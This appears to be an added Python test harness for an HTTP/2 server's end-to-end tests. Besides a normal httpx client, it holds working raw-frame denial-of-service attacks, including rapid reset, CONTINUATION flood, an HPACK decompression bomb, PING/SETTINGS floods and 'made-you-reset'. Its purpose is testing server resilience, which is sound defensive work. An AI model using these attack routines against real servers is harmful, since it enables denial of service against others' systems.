@@ -1,0 +1,380 @@
+#!/usr/bin/env python3
+"""HTTP/2 peers for the end-to-end tests: a well-behaved client (httpx) and attackers that
+write raw frames (HPACK from the `hpack` package that comes with `h2`), each printing one JSON
+object with what it saw.
+
+    peer.py fetch URL [--prior-knowledge] [--cacert CA] [--count N] [--post BYTES] [--host H]
+    peer.py ATTACK HOST PORT AUTHORITY [PATH]
+
+ATTACK is one of: rapid-reset, continuation-flood, hpack-bomb, ping-flood, settings-flood,
+zero-window, empty-data, stream-id-regression, stream-id-exhaustion, made-you-reset; or a
+plain exchange for the limits tests: reset-after, sequential, together, one-then-wait,
+silent.
+"""
+
+import json
+import socket
+import struct
+import sys
+import time
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CANCEL, PROTOCOL_ERROR, NO_ERROR = 0x8, 0x1, 0x0
+
+
+def frame(ftype, flags, sid, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload
+
+
+def settings(pairs):
+    return b"".join(struct.pack(">HI", k, v) for k, v in pairs)
+
+
+class Peer:
+    """A raw HTTP/2 connection: frames out, frames in, what came back counted."""
+
+    def __init__(self, host, port, authority, path, initial_window=None):
+        from hpack import Encoder
+
+        self.sock = socket.create_connection((host, port), timeout=5)
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.enc = Encoder()
+        self.authority, self.path = authority, path
+        self.inbuf = b""
+        self.goaway = None
+        self.closed = False
+        self.blocked = False
+        self.rst = 0
+        self.headers = 0
+        self.data = 0
+        self.statuses = []
+        self.pings = 0
+        ours = [] if initial_window is None else [(0x4, initial_window)]
+        self.send(PREFACE + frame(SETTINGS, 0, 0, settings(ours)))
+
+    def block(self, method="GET", path=None, extra=()):
+        fields = [(":method", method), (":scheme", "http"), (":path", path or self.path),
+                  (":authority", self.authority)] + list(extra)
+        return self.enc.encode(fields)
+
+    def send(self, data, timeout=5):
+        """Sends, unless the daemon stops reading (backpressure): then `blocked`."""
+        if self.closed:
+            return False
+        self.sock.settimeout(timeout)
+        try:
+            self.sock.sendall(data)
+            return True
+        except socket.timeout:
+            self.blocked = True
+        except OSError:
+            self.closed = True
+        return False
+
+    def read(self, seconds, until_closed=False):
+        """Reads frames for up to `seconds` (answering SETTINGS and PING as a client must)."""
+        end = time.time() + seconds
+        while time.time() < end and not self.closed:
+            self.sock.settimeout(max(0.01, min(0.2, end - time.time())))
+            try:
+                got = self.sock.recv(1 << 16)
+            except socket.timeout:
+                if not until_closed and self.goaway is not None:
+                    break
+                continue
+            except OSError:
+                self.closed = True
+                break
+            if not got:
+                self.closed = True
+                break
+            self.inbuf += got
+            self.parse()
+
+    def parse(self):
+        while len(self.inbuf) >= 9:
+            length = int.from_bytes(self.inbuf[:3], "big")
+            if len(self.inbuf) < 9 + length:
+                return
+            ftype, flags = self.inbuf[3], self.inbuf[4]
+            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
+            payload = self.inbuf[9:9 + length]
+            self.inbuf = self.inbuf[9 + length:]
+            if ftype == SETTINGS and not flags & ACK:
+                self.send(frame(SETTINGS, ACK, 0))
+            elif ftype == PING and not flags & ACK:
+                self.pings += 1
+                self.send(frame(PING, ACK, 0, payload))
+            elif ftype == GOAWAY:
+                self.goaway = int.from_bytes(payload[4:8], "big")
+            elif ftype == RST_STREAM:
+                self.rst += 1
+            elif ftype == HEADERS:
+                self.headers += 1
+                from hpack import Decoder
+                try:
+                    # Only the first block of each stream carries :status; a fresh decoder
+                    # is wrong after dynamic-table use, so fall back to counting.
+                    if not hasattr(self, "dec"):
+                        self.dec = Decoder()
+                    block = payload
+                    if flags & 0x8:
+                        block = block[1:len(block) - block[0]]
+                    if flags & 0x20:
+                        block = block[5:]
+                    for name, value in self.dec.decode(block):
+                        if name in (":status", b":status"):
+                            self.statuses.append(int(value))
+                except Exception:
+                    pass
+            elif ftype == DATA:
+                self.data += length
+
+    def report(self, **extra):
+        out = {"goaway": self.goaway, "closed": self.closed, "blocked": self.blocked,
+               "rst": self.rst, "headers": self.headers, "data": self.data,
+               "statuses": self.statuses[:50], "pings": self.pings}
+        out.update(extra)
+        print(json.dumps(out))
+
+
+def rapid_reset(p, n=20000):
+    """HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)."""
+    sent, sid = 0, 1
+    batch = []
+    for _ in range(n):
+        batch.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block()))
+        batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
+        sid += 2
+        sent += 1
+        if len(batch) >= 200:
+            if not p.send(b"".join(batch)):
+                break
+            batch = []
+            p.read(0.001)
+    p.send(b"".join(batch))
+    p.read(3, until_closed=True)
+    p.report(streams=sent)
+
+
+def continuation_flood(p, n=100000):
+    """One header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316)."""
+    block = p.block(extra=[("x-a", "b" * 100)])
+    p.send(frame(HEADERS, 0, 1, block))
+    sent = 0
+    junk = p.enc.encode([("x-junk", "j" * 200)])
+    for _ in range(n // 100):
+        if not p.send(frame(CONTINUATION, 0, 1, junk) * 100):
+            break
+        sent += 100
+        p.read(0.001)
+        if p.goaway is not None:
+            break
+    p.read(3, until_closed=True)
+    p.report(frames=sent)
+
+
+def hpack_int(n, prefix, flags):
+    """An HPACK integer with an N-bit prefix (RFC 7541 §5.1)."""
+    top = (1 << prefix) - 1
+    if n < top:
+        return bytes([flags | n])
+    out = [flags | top]
+    n -= top
+    while n >= 128:
+        out.append(n % 128 + 128)
+        n //= 128
+    out.append(n)
+    return bytes(out)
+
+
+def hpack_str(s):
+    return hpack_int(len(s), 7, 0) + s
+
+
+def hpack_bomb(p, n=200):
+    """A large field put in the dynamic table once, then referenced by one byte thousands of
+    times per block: 4,000 bytes that decode to 16 MB. Encoded by hand, so that nothing else
+    enters the table (index 62 stays the large field)."""
+    pseudo = (b"\x82\x86" + hpack_int(4, 4, 0) + hpack_str(p.path.encode())
+              + hpack_int(1, 4, 0) + hpack_str(p.authority.encode()))
+    first = pseudo + b"\x40" + hpack_str(b"x-bomb") + hpack_str(b"b" * 4000)
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
+    p.read(0.3)
+    sid = 3
+    for _ in range(n):
+        block = pseudo + bytes([0x80 | 62]) * 4000
+        if not p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, block)):
+            break
+        p.read(0.05)
+        if p.goaway is not None:
+            break
+        sid += 2
+    p.read(3, until_closed=True)
+    p.report()
+
+
+def ping_flood(p, n=300000):
+    """PINGs without reading the answers."""
+    sent = 0
+    for i in range(n // 1000):
+        if not p.send(frame(PING, 0, 0, struct.pack(">Q", i)) * 1000, timeout=2):
+            break
+        sent += 1000
+    p.report(sent=sent)
+
+
+def settings_flood(p, n=300000):
+    """SETTINGS frames without reading the acknowledgements."""
+    sent = 0
+    body = frame(SETTINGS, 0, 0, settings([(0x4, 65535)]))
+    for _ in range(n // 1000):
+        if not p.send(body * 1000, timeout=2):
+            break
+        sent += 1000
+    p.report(sent=sent)
+
+
+def zero_window(p, streams=100):
+    """Asks for a large file on many streams with a window of zero, and never opens it."""
+    for i in range(streams):
+        p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, p.block()))
+    p.read(2)
+    p.report()
+
+
+def empty_data(p, n=200000):
+    """A request body of empty DATA frames, forever."""
+    p.send(frame(HEADERS, END_HEADERS, 1, p.block(method="POST")))
+    sent = 0
+    for _ in range(n // 1000):
+        if not p.send(frame(DATA, 0, 1) * 1000, timeout=2):
+            break
+        sent += 1000
+        p.read(0.001)
+    p.read(3, until_closed=True)
+    p.report(frames=sent)
+
+
+def stream_id_regression(p):
+    """Stream 5, then stream 3: ids must only grow."""
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 5, p.block()))
+    p.read(0.5)
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, p.block()))
+    p.read(3, until_closed=True)
+    p.report()
+
+
+def stream_id_exhaustion(p):
+    """The last stream id there is; then a client can only open a new connection."""
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 0x7FFFFFFF, p.block()))
+    p.read(1)
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
+    p.read(3, until_closed=True)
+    p.report()
+
+
+def made_you_reset(p, n=5000):
+    """Makes the server reset streams itself (CVE-2025-8671): a WINDOW_UPDATE that overflows
+    an open stream's window is a stream error the server answers with RST_STREAM."""
+    sid, sent = 1, 0
+    batch = []
+    for _ in range(n):
+        batch.append(frame(HEADERS, END_HEADERS, sid, p.block(method="POST")))
+        batch.append(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF)))
+        sid += 2
+        sent += 1
+        if len(batch) >= 200:
+            if not p.send(b"".join(batch)):
+                break
+            batch = []
+            p.read(0.001)
+    p.send(b"".join(batch))
+    p.read(3, until_closed=True)
+    p.report(streams=sent)
+
+
+def reset_after(p):
+    """One request, reset by the client after half a second."""
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
+    p.read(0.5)
+    p.send(frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)))
+    p.read(1)
+    p.report()
+
+
+def sequential(p, n=5):
+    """Requests one after another on one connection, each after the last one's answer."""
+    sid = 1
+    for _ in range(n):
+        if p.goaway is not None and p.closed:
+            break
+        p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block()))
+        sid += 2
+        p.read(0.4)
+    p.read(1)
+    p.report(sent=(sid - 1) // 2)
+
+
+def together(p, n=3):
+    """Several requests at once, then every answer."""
+    for i in range(n):
+        p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, p.block()))
+    p.read(4, until_closed=True)
+    p.report()
+
+
+def one_then_wait(p):
+    """One request, then reading until the daemon closes (or 6 s pass)."""
+    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
+    p.read(6, until_closed=True)
+    p.report()
+
+
+def silent(p):
+    """The preface and SETTINGS, then nothing: no request."""
+    p.read(6, until_closed=True)
+    p.report()
+
+
+def fetch(args):
+    import httpx
+
+    url = args[0]
+    prior = "--prior-knowledge" in args
+    ca = args[args.index("--cacert") + 1] if "--cacert" in args else False
+    count = int(args[args.index("--count") + 1]) if "--count" in args else 1
+    post = int(args[args.index("--post") + 1]) if "--post" in args else None
+    headers = {"host": args[args.index("--host") + 1]} if "--host" in args else {}
+    with httpx.Client(http1=not prior, http2=True, verify=ca, timeout=10) as c:
+        out = []
+        for _ in range(count):
+            if post is None:
+                r = c.get(url, headers=headers)
+            else:
+                r = c.post(url, headers=headers, content=bytes(i % 251 for i in range(post)))
+            out.append({"version": r.http_version, "status": r.status_code,
+                        "length": len(r.content), "headers": dict(r.headers)})
+    print(json.dumps(out))
+
+
+ATTACKS = {
+    "rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
+    "hpack-bomb": hpack_bomb, "ping-flood": ping_flood, "settings-flood": settings_flood,
+    "zero-window": zero_window, "empty-data": empty_data,
+    "stream-id-regression": stream_id_regression,
+    "stream-id-exhaustion": stream_id_exhaustion, "made-you-reset": made_you_reset,
+    "reset-after": reset_after, "sequential": sequential, "together": together,
+    "one-then-wait": one_then_wait, "silent": silent,
+}
+
+if __name__ == "__main__":
+    if sys.argv[1] == "fetch":
+        fetch(sys.argv[2:])
+    else:
+        name, host, port, authority = sys.argv[1:5]
+        path = sys.argv[5] if len(sys.argv) > 5 else "/"
+        window = 0 if name == "zero-window" else None
+        ATTACKS[name](Peer(host, int(port), authority, path, initial_window=window))
